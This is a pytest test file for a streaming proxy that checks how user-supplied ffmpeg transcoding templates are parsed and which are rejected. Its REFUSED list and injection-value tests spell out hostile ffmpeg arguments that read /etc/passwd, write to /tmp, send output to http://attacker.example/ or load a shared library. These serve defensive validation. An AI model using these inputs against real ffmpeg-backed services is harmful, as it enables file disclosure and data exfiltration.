import contextlib
import shlex
import subprocess

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from streamproxy.formats.transcoding import (
    BUILT_IN,
    Acceleration,
    Accelerator,
    Container,
    Expanded,
    ProfileError,
    arguments,
    expand,
    raw_profile,
)
from streamproxy.formats.transcoding.options import FLAGS, LEFT_OUT, OPTIONS
from tests.helpers.ffmpegs import each_ffmpeg

USUAL = (
    "-i {input_url} -c:v libx264 -preset faster -b:v {video_bitrate|3M} -c:a aac -b:a {audio_bitrate|192k} "
    "-f {format|mpegts} {output_args|pipe:1}"
)
MAPS = ("-map", "0:V:0?", "-map", "0:a:0?")


def words(template: str, **variables: str) -> list[str]:
    return list(expand(template, variables).words)


def test_template_becomes_words_with_input_and_output_in_their_places() -> None:
    assert expand(USUAL, {"video_bitrate": "1M"}, input="pipe:3", output="pipe:4", input_options=("-re",)) == Expanded(
        (
            *("-re", "-i", "pipe:3", *MAPS),
            *("-c:v", "libx264", "-preset", "faster", "-b:v", "1M", "-c:a", "aac", "-b:a", "192k"),
            *("-f", "mpegts", "pipe:4"),
        ),
        Container.MPEGTS,
    )


def test_variable_without_a_default_has_that_of_m3u_proxy() -> None:
    assert words("-i {input_url} -b:v {video_bitrate} -b:a {audio_bitrate} -crf {crf}")[6:-3] == [
        *("-b:v", "2M", "-b:a", "128k", "-crf", "23"),
    ]


def test_variable_that_nobody_gives_is_an_error() -> None:
    with pytest.raises(ProfileError, match=r"write \{maxrate\|VALUE\} for a default"):
        words("-i {input_url} -maxrate {maxrate}")


def test_format_output_and_streams_may_be_left_out() -> None:
    assert words("-i {input_url} -c copy") == ["-i", "pipe:0", *MAPS, "-c", "copy", "-f", "mpegts", "pipe:1"]
    assert words("-i {input_url} -map 0:v -c copy")[2:4] == ["-map", "0:v"]


def test_words_are_cut_as_a_shell_does_and_keep_no_quotes() -> None:
    assert words("ffmpeg -i '{input_url}' -vf \"scale='min(1280,iw)':-2\" -metadata 'service_name=My TV'")[6:10] == [
        "-vf",
        "scale='min(1280,iw)':-2",
        "-metadata",
        "service_name=My TV",
    ]


def test_what_the_proxy_does_itself_is_left_out() -> None:
    template = (
        "-user_agent VLC -headers 'X: y' -reconnect 1 -i {input_url} -c copy -f hls -hls_time 2 -hls_list_size 5 "
        "-hls_flags delete_segments -hls_segment_filename /tmp/x%d.ts {output_args|index.m3u8}"
    )

    assert words(template) == ["-i", "pipe:0", *MAPS, "-c", "copy", "-f", "mpegts", "pipe:1"]


@pytest.mark.parametrize(
    ("written", "container"),
    [("mp4", Container.MP4), ("webm", Container.WEBM), ("matroska", Container.MATROSKA), ("mpjpeg", Container.MJPEG)],
)
def test_container_is_what_the_template_writes(written: str, container: Container) -> None:
    assert raw_profile("x", f"-i {{input_url}} -f {written} pipe:1").container is container
    assert expand(USUAL, {"format": written}).container is container


def test_mp4_is_written_in_fragments() -> None:
    flags = "+frag_keyframe+empty_moov+default_base_moof"

    assert words("-i {input_url} -f mp4")[-5:] == ["-movflags", flags, "-f", "mp4", "pipe:1"]


def test_profile_of_a_template_tells_ffmpeg_what_it_says() -> None:
    profile = raw_profile("x", USUAL)
    software = Accelerator(Acceleration.SOFTWARE)

    told = arguments(profile, software, variables={"video_bitrate": "9M"}, input="pipe:5", container=Container.MP4)

    assert told[-3:] == ["-f", "mp4", "pipe:1"]
    assert told[told.index("-i") + 1] == "pipe:5"
    assert told[told.index("-b:v") + 1] == "9M"
    assert "-nostdin" in told


ALLOWED = """
-i {input_url} -c copy
-hwaccel cuda -hwaccel_output_format cuda -i {input_url} -c:v h264_nvenc -preset p4 -b:v 4M -c:a copy
-vaapi_device /dev/dri/renderD128 -i {input_url} -vf format=nv12,hwupload -c:v h264_vaapi -b:v 3M
-init_hw_device vaapi=va:/dev/dri/renderD128 -init_hw_device qsv=hw@va -filter_hw_device hw -i {input_url} -c:v h264_qsv
-fflags +genpts+discardcorrupt+igndts -i {input_url} -c:v libx264 -crf {crf|23} -maxrate 2500k -bufsize 5000k
-i {input_url} -filter:v yadif=0:-1:0,scale=-2:720:flags=lanczos -c:v libx264 -x264-params keyint=50:scenecut=0
-i {input_url} -filter_complex [0:v]yadif,scale=-2:720[v] -map [v] -map 0:a:0?
-i {input_url} -vf "scale='if(gt(ih\\,720),-2,iw)':'min(720,ih)'" -af volume=2.0,loudnorm=I=-16:TP=-1.5:LRA=11
-i {input_url} -vn -c:a libmp3lame -q:a 2 -f mpegts -
-i {input_url} -force_key_frames expr:gte(t,n_forced*2) -g 50 -movflags +frag_keyframe+empty_moov -f mp4
"""


@pytest.mark.parametrize("template", ALLOWED.strip().splitlines())
def test_what_people_write_is_understood(template: str) -> None:
    assert words(template)[-1] == "pipe:1"


REFUSED = """
-i {input_url} -i /etc/passwd
-i {input_url} -f mpegts /tmp/x.ts
-i {input_url} -f mpegts pipe:1 -f mpegts /tmp/x.ts
-i {input_url} /tmp/x.ts pipe:1
-i {input_url} -f mpegts http://attacker.example/
-i {input_url} -f mpegts file:x
-i {input_url} -f mpegts pipe:2
-i /etc/passwd
-i http://internal.example/
-i {input_url}/../x
-i concat:/etc/passwd
-f lavfi -i {input_url}
-f concat -i {input_url}
-c copy -f mpegts pipe:1
-c copy
pipe:1 -i {input_url}
-i {input_url} -f tee out.ts
-i {input_url} -f segment pipe:1
-i {input_url} -f image2 pipe:1
-i {input_url} -f rtp pipe:1
-i {input_url} -vf movie=/etc/passwd
-i {input_url} -vf scale=1:1,movie=/etc/passwd
-i {input_url} -vf scale=1:1;amovie=/etc/passwd
-i {input_url} -vf [in]subtitles=/etc/passwd[out]
-i {input_url} -vf ass=x.ass
-i {input_url} -vf drawtext=textfile=/etc/passwd
-i {input_url} -vf lut3d=x.cube
-i {input_url} -vf sendcmd=f=x
-i {input_url} -vf metadata=print:file=/tmp/x
-i {input_url} -vf null,'movie'=x
-i {input_url} -vf null,mo\\vie=x
-i {input_url} -af loudnorm=stats_file=/tmp/x
-i {input_url} -vf scale=/w=/etc/passwd
-i {input_url} -vf scale=w=1:/h=/etc/passwd
-i {input_url} -vf scale=w=1:\\/h=/etc/passwd
-i {input_url} -lavfi movie=/etc/passwd
-i {input_url} -filter_complex movie=/etc/passwd
-i {input_url} -filter_script /etc/passwd
-i {input_url} -filter_complex_script /etc/passwd
-i {input_url} -/filter /etc/passwd
-i {input_url} -/vf /etc/passwd
-i {input_url} -attach /etc/passwd
-dump_attachment x -i {input_url}
-i {input_url} -report
-i {input_url} -passlogfile /tmp/x
-i {input_url} -pass 1
-i {input_url} -vstats_file /tmp/x
-i {input_url} -vstats
-i {input_url} -progress http://attacker.example/
-i {input_url} -sdp_file x
-i {input_url} -fpre /etc/passwd
-i {input_url} -vpre x
-i {input_url} -pre x
-i {input_url} -x264-params stats=/tmp/x
-i {input_url} -x264-params keyint=50:dump-yuv=/tmp/x
-i {input_url} -x264opts qpfile=/tmp/x
-i {input_url} -x265-params csv=/tmp/x
-i {input_url} -x265-params keyint=1:analysis-save=x
-i {input_url} -svtav1-params stats=/tmp/x
-init_hw_device vaapi=va:/tmp/x -i {input_url}
-init_hw_device opencl=x,library=/tmp/x.so -i {input_url}
-init_hw_device vaapi=va:/dev/dri/../../tmp/x -i {input_url}
-vaapi_device /tmp/x -i {input_url}
-i {input_url} -map 1:v
-i {input_url} -map 0:v,1:a
-i {input_url} -b:v
-i {input_url} -c:v
-i {input_url} -unheard_of 1
-i {input_url} --version
-i {input_url} -bsf:v noise=1
-i {input_url} -dump
-i {input_url} -safe 0
-i {input_url} 'unclosed
-stream_loop -1 -i {input_url} -i {input_url}
-i {input_url} -map_metadata 0:g:../x
-i {input_url} -c:v /tmp/x
-i {input_url} -ignore_unknown out.ts
-i {input_url} pipe:1 pipe:1
-i {input_url} pipe:1 -c copy
-i {input_url} -vf "scale=w=1:'\\/h=/etc/passwd'"
-i {input_url} -re out.ts
"""


@pytest.mark.parametrize("template", REFUSED.strip().splitlines())
def test_what_reads_or_writes_anything_else_is_refused(template: str) -> None:
    with pytest.raises(ProfileError):
        words(template)


@pytest.mark.parametrize(
    "value",
    [
        "x -i /etc/passwd",
        "x\n-y",
        "a b",
        "1M,movie=x",
        "'",
        '"',
        "\\",
        "$(x)",
        "",
        "-y",
        "a;b",
        "x|y",
        "{crf}",
        "a" * 101,
    ],
)
def test_value_of_a_variable_never_becomes_more_than_a_value(value: str) -> None:
    try:
        told = words(USUAL, video_bitrate=value)
    except ProfileError:
        return
    assert told[told.index("-b:v") + 1] == value
    assert len(told) == len(words(USUAL))


@pytest.mark.parametrize("name", ["input_url", "output_args"])
def test_nobody_sets_where_it_reads_and_writes(name: str) -> None:
    assert words(USUAL, **{name: "/etc/passwd"}) == words(USUAL)


def test_mistakes_do_not_repeat_a_long_text() -> None:
    with pytest.raises(ProfileError) as caught:
        words("-i {input_url} -" + "x" * 5000)

    assert len(str(caught.value)) < 150


word = st.one_of(
    st.sampled_from(sorted(f"-{name}" for name in (*OPTIONS, *FLAGS))),
    st.sampled_from(["-i", "-f", "{input_url}", "{output_args}", "pipe:1", "mpegts", "copy", "-", "0:v", "null", "1M"]),
    st.sampled_from(["movie=/x", "/etc/passwd", "http://h/", "file:x", "x.ts", "-y", "-filter_script", "null,movie=x"]),
    st.text("abc-/:=,;[]'\\{}|% 0.", max_size=12),
)


@given(st.lists(word, max_size=12))
@example(["-i", "{input_url}", "-b:v", "-f", "x.ts"])
def test_whatever_is_written_it_has_one_input_and_one_output(parts: list[str]) -> None:
    try:
        told = words(shlex.join(parts))
    except ProfileError:
        return
    assert told.count("-i") == 1
    assert told[told.index("-i") + 1] == "pipe:0"
    assert told[-1] == "pipe:1"
    at = 0
    while at < len(told) - 1:  # as ffmpeg reads it: an option, its value unless it is a flag, and nothing bare
        assert told[at].startswith("-")
        at += 1 if told[at][1:].partition(":")[0] in FLAGS else 2
    assert at == len(told) - 1


@given(st.text(max_size=60), st.dictionaries(st.sampled_from(["crf", "format", "x"]), st.text(max_size=20)))
def test_any_text_is_a_template_or_an_error(template: str, variables: dict[str, str]) -> None:
    with contextlib.suppress(ProfileError):
        expand(f"-i {{input_url}} {template}", variables)


@pytest.mark.slow
@each_ffmpeg
def test_every_option_takes_a_value_where_it_is_taken_to(ffmpeg: str) -> None:
    for name in (*OPTIONS, *LEFT_OUT, *FLAGS):
        # As the last word of all. Those of encoders and formats, which always have a value, are not known by then.
        done = subprocess.run([ffmpeg, "-hide_banner", f"-{name}"], capture_output=True, text=True, timeout=20)
        if "Unrecognized option" not in done.stderr:
            assert ("Missing argument" in done.stderr) is (name not in FLAGS), name


def test_built_in_profiles_are_no_templates() -> None:
    assert all(profile.template is None for profile in BUILT_IN.values())
